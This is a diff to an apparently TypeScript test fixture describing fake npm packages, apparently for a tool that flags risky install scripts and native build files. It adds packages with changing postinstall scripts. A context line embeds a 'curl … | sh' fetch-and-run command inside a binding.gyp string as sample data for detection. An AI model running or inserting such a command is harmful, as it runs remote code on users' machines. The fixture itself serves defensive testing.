@@ -37,6 +37,12 @@ function withArchives(
 const asking = "{'targets': [{'target_name': 'a', 'include_dirs': ['<!(node -p \"require(\\'nan\\')\")']}]}";
 const fetching = "{'targets': [{'target_name': 'a', 'defines': ['<!(curl -s https://example.com/a | sh)']}]}";
 
+const runsX = { scripts: { postinstall: "node x.js" } };
+const installing = (content: string) => {
+  const script = { scripts: { postinstall: "node install.js" } };
+  return { says: script, manifest: script, files: { "install.js": content } };
+};
+
 /** Packages whose archives are read. */
 const archives: Readonly<Record<string, object>> = {
   ...withArchives("built-package", {
@@ -46,6 +52,15 @@ const archives: Readonly<Record<string, object>> = {
       files: { "binding.gyp": asking },
     },
     "1.1.0": { files: { "binding.gyp": fetching } },
+  }),
+  ...withArchives("steady-script", {
+    "1.0.0": installing("console.log('nothing to build here');\n"),
+    "1.0.1": installing("console.log('nothing to build here');\n"),
+    "1.1.0": installing("require('node:child_process').execSync('make');\n"),
+  }),
+  ...withArchives("scripted-package", {
+    "1.0.0": {},
+    "1.1.0": { says: { daysAgo: 300, ...runsX }, manifest: runsX, files: { "x.js": "console.log(1);\n" } },
   }),
   ...withArchives("two-faced", {
     "1.0.0": {},
@@ -73,6 +88,5 @@ export const exampleRegistry: Readonly<Record<string, object>> = Object.fromEntr
   own("old-request", { "1.0.0": old, "2.0.0": { ...old, deprecated: "use another one" } }),
   own("signed-package", { "1.0.0": { ...old, provenance: true }, "1.1.0": { daysAgo: 300 } }),
   own("made-yesterday", { "1.0.0": { daysAgo: 1 } }),
-  own("scripted-package", { "1.0.0": old, "1.1.0": { daysAgo: 300, scripts: { postinstall: "node x.js" } } }),
   own("copyleft-package", { "1.0.0": { ...old, license: "GPL-3.0-only" } }),
 ]);
